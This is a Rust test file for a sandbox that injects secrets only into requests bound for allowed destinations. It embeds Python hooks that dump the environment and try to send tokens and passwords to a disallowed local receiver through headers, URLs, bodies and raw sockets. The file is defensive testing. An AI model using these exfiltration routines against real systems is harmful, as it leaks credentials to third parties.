//! Secrets that never enter the sandbox (`[[secrets.inject]]`): the hook
//! holds placeholders, the host puts the values into requests for their
//! destinations only. A hook that prints its environment and tries to send
//! the values elsewhere (headers, URL, body, over urllib, `http.client`,
//! the curl shim and a raw socket) against two real receivers; then every
//! output, record and trace-level log is searched for the values.

use std::path::Path;
use std::process::Output;

use base64::Engine;

use crate::receiver::{Receiver, Reply};
use crate::support::{REQUESTS, SESSION_CLOSE, TestHook, hookbox, install_packages};

const SIEM_TOKEN: &str = "tok-7c1f9a2e-REAL-siem/token+value";
const HEC_PASSWORD: &str = "hec-pa55-REAL-from-a-file";

const HOOK: &str = r#"
import base64, http.client, json, os, socket, subprocess, urllib.request

token, hec = os.environ["SIEM_TOKEN"], os.environ["HEC_PASSWORD"]
siem, other = os.environ["SIEM"], os.environ["OTHER"]
print("environment", json.dumps(dict(os.environ)))

def post(url, headers, body=b"{}"):
    try:
        request = urllib.request.Request(url, data=body, headers=headers, method="POST")
        with urllib.request.urlopen(request, timeout=5) as response:
            print("sent", url.split("?")[0], response.status, response.headers.get("x-echo"))
            print(response.read().decode())
    except Exception as error:
        print("not sent", url.split("?")[0], type(error).__name__)

def raw(base, path, header):
    host, port = base.removeprefix("http://").split(":")
    try:
        with socket.create_connection((host, int(port)), timeout=5) as s:
            s.sendall((f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\n{header}\r\n"
                       "Connection: close\r\n\r\n").encode())
            data = b""
            while chunk := s.recv(65536):
                data += chunk
        print("raw", path, data.decode())
    except OSError as error:
        print("raw not sent", path, type(error).__name__)

# Where the secrets may go.
post(f"{siem}/services/collector?token={token}", {"Authorization": f"Splunk {token}"})
host, port = siem.removeprefix("http://").split(":")
connection = http.client.HTTPConnection(host, int(port), timeout=5)
basic = base64.b64encode(f"hec:{hec}".encode()).decode()
connection.request("POST", "/basic", body=b"{}", headers={"Authorization": f"Basic {basic}"})
response = connection.getresponse()
print("basic", response.status, response.read().decode())
curl = subprocess.run(["curl", "-sS", "-H", f"Authorization: Bearer {token}", f"{siem}/curl"],
                      capture_output=True, text=True)
print("curl", curl.returncode, curl.stdout)
raw(siem, "/socket", f"X-Api-Key: {token}\r\nAuthorization: Bearer {token}")
import requests, hookbox.http
print("requests", requests.post(f"{siem}/requests", json={"x": 1},
                                headers={"Authorization": f"Splunk {token}"}, timeout=5).status_code)
print("sdk", hookbox.http.post(f"{siem}/sdk", json={"x": 1},
                               headers={"Authorization": f"Splunk {token}"}).status)

# Where they may not.
post(f"{other}/header", {"X-Token": token})
post(f"{other}/query?t={token}", {})
post(f"{other}/basic", {"Authorization": f"Basic {basic}"})
raw(other, "/raw", f"X-Api-Key: {hec}")
try:
    requests.get(f"{other}/requests", headers={"Authorization": f"Splunk {token}"}, timeout=5)
    print("requests sent to other")
except requests.ConnectionError:
    print("requests not sent to other")
try:
    hookbox.http.get(f"{other}/sdk", headers={"Authorization": f"Splunk {token}"})
    print("sdk sent to other")
except hookbox.http.EgressDenied:
    print("sdk not sent to other")
post(f"{other}/body", {}, json.dumps({"token": token, "hec": hec}).encode())
"#;

fn run(hook: &TestHook, config: &Path, siem: &Receiver, other: &Receiver) -> Output {
    let payload = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(payload.path(), SESSION_CLOSE).unwrap();
    let siem_url = format!("http://127.0.0.1:{}", siem.port());
    let other_url = format!("http://127.0.0.1:{}", other.port());
    hookbox()
        .args(["run", "--json"])
        .arg(&hook.path)
        .arg("--payload")
        .arg(payload.path())
        .arg("--config")
        .arg(config)
        .args(["--allow", &siem_url, "--allow", &other_url])
        .args(["--env", &format!("SIEM={siem_url}")])
        .args(["--env", &format!("OTHER={other_url}")])
        .env("HOOKBOX_SIEM_TOKEN", SIEM_TOKEN)
        .env("HOOKBOX_LOG", "trace")
        .output()
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_reach_their_destination_only_and_nothing_shows_them() {
    let siem = Receiver::http(Reply::Echo).await;
    let other = Receiver::http(Reply::Echo).await;
    let hook = TestHook::new(HOOK);
    install_packages(hook.dir.path(), REQUESTS);
    let settings = tempfile::tempdir().unwrap();
    std::fs::write(
        settings.path().join("hec.password"),
        format!("{HEC_PASSWORD}\n"),
    )
    .unwrap();
    let config = settings.path().join("config.toml");
    std::fs::write(
        &config,
        format!(
            "[[secrets.inject]]\nname = \"SIEM_TOKEN\"\nfrom_env = \"HOOKBOX_SIEM_TOKEN\"\n\
             destinations = [\"http://127.0.0.1:{port}\"]\n\n\
             [[secrets.inject]]\nname = \"HEC_PASSWORD\"\nfrom_file = \"hec.password\"\n\
             destinations = [\"http://127.0.0.1:{port}\"]\n",
            port = siem.port()
        ),
    )
    .unwrap();
    let output = run(&hook, &config, &siem, &other);
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(output.status.code(), Some(0), "{stderr}");
    let outcome: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    let printed = outcome["stdout"].as_str().unwrap();

    // The intended receiver got the values, wherever the hook put them.
    let to_siem = siem.requests();
    let by_path = |path: &str| {
        to_siem
            .iter()
            .find(|r| r.path.starts_with(path))
            .unwrap_or_else(|| panic!("no request for {path}: {to_siem:?}\n{printed}"))
    };
    let collector = by_path("/services/collector");
    assert_eq!(
        collector.header("authorization"),
        Some(format!("Splunk {SIEM_TOKEN}").as_str())
    );
    assert_eq!(
        collector.path,
        "/services/collector?token=tok-7c1f9a2e-REAL-siem%2Ftoken%2Bvalue"
    );
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("hec:{HEC_PASSWORD}"));
    assert_eq!(
        by_path("/basic").header("authorization"),
        Some(format!("Basic {basic}").as_str())
    );
    assert_eq!(
        by_path("/curl").header("authorization"),
        Some(format!("Bearer {SIEM_TOKEN}").as_str())
    );
    assert_eq!(by_path("/socket").header("x-api-key"), Some(SIEM_TOKEN));
    for path in ["/requests", "/sdk"] {
        assert_eq!(
            by_path(path).header("authorization"),
            Some(format!("Splunk {SIEM_TOKEN}").as_str())
        );
    }
    for line in ["requests not sent to other", "sdk not sent to other"] {
        assert!(printed.contains(line), "{line}:\n{printed}");
    }

    // The other received only the body, which holds placeholders.
    let to_other = other.requests();
    assert_eq!(
        to_other.iter().map(|r| r.path.as_str()).collect::<Vec<_>>(),
        ["/body"],
        "{printed}"
    );
    let body = String::from_utf8_lossy(&to_other[0].body);
    assert!(body.contains("hookbox-secret-SIEM_TOKEN-"), "{body}");
    for received in &to_other {
        let text = format!("{received:?}");
        assert!(
            !text.contains(SIEM_TOKEN) && !text.contains(HEC_PASSWORD) && !text.contains(&basic)
        );
    }
    let other_url = format!("http://127.0.0.1:{}", other.port());
    for path in ["/header", "/query", "/basic"] {
        let line = format!("not sent {other_url}{path} URLError");
        assert!(printed.contains(&line), "{line}:\n{printed}");
    }
    // The hook's raw connection was closed without an answer.
    assert!(printed.contains("raw /raw \n"), "{printed}");

    // The echo service reflected the value: the hook sees it masked.
    let stars = "*".repeat(SIEM_TOKEN.len());
    assert!(printed.contains(&format!("Splunk {stars}")), "{printed}");
    // The status line's reason phrase echoed it too.
    assert!(
        printed.contains(&format!("raw /socket HTTP/1.1 200 Bearer {stars}\r\n")),
        "{printed}"
    );

    // The record names each refusal and each injection.
    let egress = outcome["egress"].as_array().unwrap();
    let refused: Vec<&serde_json::Value> =
        egress.iter().filter(|a| a["allowed"] == false).collect();
    assert_eq!(refused.len(), 6, "{egress:#?}");
    for attempt in &refused {
        let reason = attempt["reason"].as_str().unwrap();
        assert!(
            reason.contains("which hookbox injects only for http://127.0.0.1:"),
            "{reason}"
        );
    }
    assert!(
        egress.iter().any(|a| a["reason"]
            .as_str()
            .is_some_and(|r| r.contains("injected by the host: SIEM_TOKEN"))),
        "{egress:#?}"
    );

    // Nothing hookbox wrote holds a value: stdout (the record, the hook's
    // output and environment), stderr with trace-level logs.
    for (what, text) in [("stdout", &stdout), ("stderr", &stderr)] {
        for secret in [SIEM_TOKEN, HEC_PASSWORD, basic.as_str(), "tok-7c1f9a2e"] {
            assert!(!text.contains(secret), "{what} shows {secret}:\n{text}");
        }
    }
    assert!(
        printed.contains("\"SIEM_TOKEN\": \"hookbox-secret-SIEM_TOKEN-"),
        "{printed}"
    );
}

#[test]
fn a_secret_that_cannot_be_injected_is_a_settings_error_that_never_shows_the_value() {
    let hook = TestHook::new("print('never runs')\n");
    let settings = tempfile::tempdir().unwrap();
    let config = settings.path().join("config.toml");
    let entry = |body: &str| format!("[[secrets.inject]]\nname = \"SIEM_TOKEN\"\n{body}\n");
    for (file, extra_args, expected) in [
        (
            entry(
                "from_env = \"HOOKBOX_UNSET_TOKEN\"\ndestinations = [\"https://siem.example.com\"]",
            ),
            vec![],
            "HOOKBOX_UNSET_TOKEN is not set",
        ),
        (
            entry("destinations = [\"https://siem.example.com\"]"),
            vec![],
            "from_env = \"VARIABLE\" or from_file",
        ),
        (
            entry(
                "from_env = \"HOOKBOX_SIEM_TOKEN\"\ndestinations = [\"tcp://siem.example.com:514\"]",
            ),
            vec![],
            "injected into HTTP requests only",
        ),
        (
            entry(
                "from_env = \"HOOKBOX_SIEM_TOKEN\"\ndestinations = [\"https://siem.example.com\"]",
            ),
            vec!["--env", "SIEM_TOKEN=visible"],
            "also passed to hooks",
        ),
        (
            entry("from_env = \"HOOKBOX_SHORT\"\ndestinations = [\"https://siem.example.com\"]"),
            vec![],
            "not usable in an HTTP header",
        ),
    ] {
        std::fs::write(&config, &file).unwrap();
        let output = hookbox()
            .arg("run")
            .arg(&hook.path)
            .args(["--payload", "-"])
            .arg("--config")
            .arg(&config)
            .args(&extra_args)
            .env("HOOKBOX_SIEM_TOKEN", SIEM_TOKEN)
            .env("HOOKBOX_SHORT", "shrt\n")
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{file}: {stderr}");
        assert!(
            stderr.contains("[[secrets.inject]] \"SIEM_TOKEN\""),
            "{stderr}"
        );
        assert!(stderr.contains(expected), "{expected}: {stderr}");
        assert!(
            !stderr.contains(SIEM_TOKEN) && !stderr.contains("shrt"),
            "{stderr}"
        );
        assert!(output.stdout.is_empty());
    }
}

/// Sends, over a raw socket to `SIEM`, a request whose URL holds the long
/// secret's placeholder and is just short enough before the value goes in;
/// then asks the compressing echo for the token.
const OVERFLOW_HOOK: &str = r#"
import os, socket, urllib.request
token, siem, packed = os.environ["LONG_TOKEN"], os.environ["SIEM"], os.environ["PACKED"]
host, port = siem.removeprefix("http://").split(":")
path = "/x?" + "a" * (65500 - len(token)) + token
with socket.create_connection((host, int(port)), timeout=5) as s:
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n".encode())
    print("overflow answer", len(s.recv(65536)))
request = urllib.request.Request(packed + "/gzip", headers={"Authorization": f"Bearer {token}"})
try:
    urllib.request.urlopen(request, timeout=5)
except urllib.error.HTTPError as error:
    print("packed", error.code, error.read())
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_value_that_breaks_the_request_or_comes_back_compressed_never_shows() {
    let long_token = format!("eyJhbGciOiJIUzI1NiJ9.{}.sig", "LONGSECRET".repeat(12));
    let siem = Receiver::http(Reply::Echo).await;
    let packed = Receiver::http(Reply::EchoCompressed).await;
    let hook = TestHook::new(OVERFLOW_HOOK);
    let settings = tempfile::tempdir().unwrap();
    let config = settings.path().join("config.toml");
    std::fs::write(
        &config,
        format!(
            "[[secrets.inject]]\nname = \"LONG_TOKEN\"\nfrom_env = \"HOOKBOX_LONG\"\n\
             destinations = [\"http://127.0.0.1:{}\", \"http://127.0.0.1:{}\"]\n",
            siem.port(),
            packed.port()
        ),
    )
    .unwrap();
    let payload = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(payload.path(), SESSION_CLOSE).unwrap();
    let siem_url = format!("http://127.0.0.1:{}", siem.port());
    let packed_url = format!("http://127.0.0.1:{}", packed.port());
    let output = hookbox()
        .args(["run", "--json"])
        .arg(&hook.path)
        .arg("--payload")
        .arg(payload.path())
        .arg("--config")
        .arg(&config)
        .args(["--allow", &siem_url, "--allow", &packed_url])
        .args(["--env", &format!("SIEM={siem_url}")])
        .args(["--env", &format!("PACKED={packed_url}")])
        .env("HOOKBOX_LONG", &long_token)
        .env("HOOKBOX_LOG", "trace")
        .output()
        .unwrap();
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(!all.contains("LONGSECRET"), "{all}");
    let outcome: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let egress = outcome["egress"].as_array().unwrap();
    assert!(
        egress[0]["reason"].as_str().is_some_and(
            |r| r.contains("LONG_TOKEN's value in its URL the request has no valid target")
        ),
        "{egress:#?}"
    );
    assert!(
        siem.requests().is_empty(),
        "the broken request was not sent"
    );
    assert!(
        outcome["stdout"]
            .as_str()
            .unwrap()
            .contains("packed 502 b''"),
        "{outcome}"
    );
    assert_eq!(
        packed.requests()[0].header("accept-encoding"),
        Some("identity")
    );
}
